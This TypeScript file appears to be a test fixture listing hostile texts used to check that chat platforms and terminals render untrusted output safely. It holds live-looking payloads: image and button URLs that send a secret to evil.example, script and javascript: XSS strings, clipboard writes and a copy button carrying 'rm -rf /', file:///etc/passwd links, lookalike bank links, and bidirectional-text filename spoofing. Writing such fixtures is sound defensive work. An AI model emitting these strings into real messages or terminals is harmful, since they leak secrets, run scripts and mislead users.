const secret = 'https://evil.example/?d=SECRET'

/**
 * Texts, by name, that make a platform, an app or a terminal act. For example, it loads an address, mentions people,
 * shows a button, or hides or misnames something. Every channel must show them as text or plain links.
 */
export const hostileTexts = {
  'picture inline': `![](${secret})`,
  'picture with a title': `![a](${secret} "title")`,
  'picture by reference': `![a][pic]\n\n[pic]: ${secret}`,
  'picture in a link': `[![a](${secret})](https://b.example)`,
  'picture in HTML': `<img src="${secret}" onerror="alert(1)">`,
  'picture in HTML, autolinked': `<img src=<${secret}>>`,
  'picture in a cell': `| a |\n|---|\n| ![b](${secret}) |`,
  'picture at a data address': '![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  'picture of the app': '![👍](tg://emoji?id=5368324170671202286) ![a](tg://photo?id=1)',
  'picture named as another address': `![https://bank.example](${secret})`,
  'video and sound': `<video src="${secret}"></video><audio src="${secret}"></audio>`,
  'file to load': `<tg-document src="${secret}"></tg-document>`,
  figure: `<figure><img src="${secret}"/><figcaption>a<cite>b</cite></figcaption></figure>`,
  collage: `<tg-collage>\n\n![](${secret})\n\n</tg-collage>`,
  slideshow: `<tg-slideshow><img src="${secret}"/></tg-slideshow>`,
  map: '<tg-map lat="41.9" long="12.5" zoom="14"/>',
  'button to an address': `<tg-button type="url" url="${secret}">a</tg-button>`,
  'button with data': '<tg-button type="callback_data" data="allow">Allow</tg-button>',
  'button to an app': `<tg-button type="web_app" url="${secret}">a</tg-button>`,
  'button to log in': `<tg-button type="login_url" url="${secret}" request-write-access>a</tg-button>`,
  'button that copies': '<tg-button type="copy_text" text="rm -rf /">Copy</tg-button>',
  'button into another chat': '<tg-button type="switch_inline_query" query="a">a</tg-button>',
  'row of buttons': `<tg-button-row align="center">\n<tg-button type="url" url="${secret}">a</tg-button>\n</tg-button-row>`,
  details: '<details open><summary>a</summary>\n\nhidden\n\n</details>',
  'spoilers in Markdown': '||hidden|| and >!hidden!<',
  'spoiler in HTML': '<tg-spoiler>hidden</tg-spoiler> <span class="tg-spoiler">hidden</span>',
  'emoji in HTML': '<tg-emoji emoji-id="5368324170671202286">👍</tg-emoji>',
  'time and formulas': '<tg-time unix="1" format="wDT">a</tg-time> <tg-math>x</tg-math> $x^2$ $$y$$ ==marked==',
  'thinking, notes and anchors':
    '<tg-thinking>a</tg-thinking> <a name="b"></a> <tg-reference name="c">d</tg-reference> e[^1]\n\n[^1]: f',
  'script and frame': '<script>alert(1)</script><iframe src="https://evil.example"></iframe><svg onload=alert(1)>',
  'form and style': '<form action="https://evil.example"><input name="a"></form><style>*{display:none}</style>',
  'comment in HTML': 'a <!-- hidden --> b <!-- hidden',
  'sections of XML': 'a <![CDATA[ <img src="https://evil.example/1"> ]]> <?php b ?> <!DOCTYPE c>',
  'references to characters': '&lt;img src="https://evil.example/1"&gt; &#60;script&#62; &amp;lt;b&amp;gt;',
  'unclosed tags': '<b><i><a href="https://evil.example/1">a <u>b <blockquote>c <pre>d',
  'unclosed attribute': '<a href="https://evil.example/1',
  'closing tags': '</p></li></ul></blockquote></code></pre></a></td></table>',
  'mention of everyone': '@everyone @here @channel <!channel> <!here> <!everyone> <!subteam^S123>',
  'mention of people':
    '@some_body <@U123ABC> <@123456789012345678> <@&123456789012345678> <@!123456789012345678> @15550000001',
  'mention by a link': '[a](tg://user?id=5) [b](<@U123ABC>) [c](!channel) <a href="tg://user?id=5">d</a>',
  'mention in references': '&#64;some_body &#x40;everyone &lt;!channel&gt; &lt;@U123ABC&gt;',
  'places and commands of an app':
    '<#C123ABC> <#123456789012345678> </allow:123456789012345678> <id:customize> <t:0:R> <:a:123456789012345678>',
  'date with a link': '<!date^1392734382^{date}^https://evil.example/|a>',
  'link of Slack': '<https://evil.example/|https://bank.example/>',
  'links of apps':
    '[a](slack://open) [b](tg://resolve?domain=x) [c](discord://-/x) [d](steam://run/1) <tg://x> slack://open tg://resolve?domain=x',
  'link with a script':
    '[a](javascript:alert) [b](JAVASCRIPT:alert) [c](vbscript:x) [d](java\nscript:x) <javascript:alert>',
  'link to a file':
    '[a](file:///etc/passwd) [b](data:text/html,x) [c](blob:x) [d](/etc/passwd) [e](intent://x#Intent;end)',
  'link named as another address': `[https://bank.example](${secret}) [www.bank.example](${secret}) [bank.example](${secret})`,
  'link by reference named as another': `[https://bank.example][1] [**bank.example/login**][1]\n\n[1]: ${secret}`,
  'link named as another mailbox': '[ann@bank.example](mailto:eve@evil.example)',
  'link with a name before its host': '[https://bank.example](https://bank.example@evil.example/)',
  'colours, titles and links of a terminal':
    'a\u001b[31mb\u001b[2Jc\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\d\u001b]8;;\u001b\\',
  'clipboard of a terminal': '\u001b]52;c;cm0gLXJmIC8=\u0007 \u001b]52;c;?\u0007 \u009d52;c;YQ==\u009c',
  'devices of a terminal':
    '\u001bP$q"p\u001b\\ \u0090q#0\u009c \u001b[6n \u001b[c \u009b5n \u001b_a\u001b\\ \u001b^b\u001b\\ \u001bX c\u001b\\',
  'control characters': 'a\u0000b\u0007c\bd\u000be\u000cf\u000eg\u007fh\u0085i\rj',
  'direction of text': 'a\u202egpj.exe\u202c \u2066b\u2069 \u2067c\u2069',
} as const

/** The name of a hostile text. */
export type HostileText = keyof typeof hostileTexts
